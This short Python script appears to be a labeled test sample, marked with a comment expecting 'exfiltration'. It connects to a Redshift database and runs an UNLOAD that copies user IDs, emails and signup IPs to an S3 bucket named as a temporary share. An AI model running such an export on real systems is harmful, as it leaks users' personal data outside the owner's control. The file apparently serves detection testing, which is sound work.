import os
import redshift_connector

UNLOAD = """
UNLOAD ('SELECT user_id, email, signup_ip FROM public.users')
TO 's3://acme-tmp-share/users_'
IAM_ROLE 'arn:aws:iam::123456789012:role/RedshiftUnload'
FORMAT AS PARQUET
"""

conn = redshift_connector.connect(
    host=os.environ["RS_HOST"], database="dev", user=os.environ["RS_USER"], password=os.environ["RS_PASSWORD"])
cursor = conn.cursor()
# expect: exfiltration
cursor.execute(UNLOAD)
conn.commit()
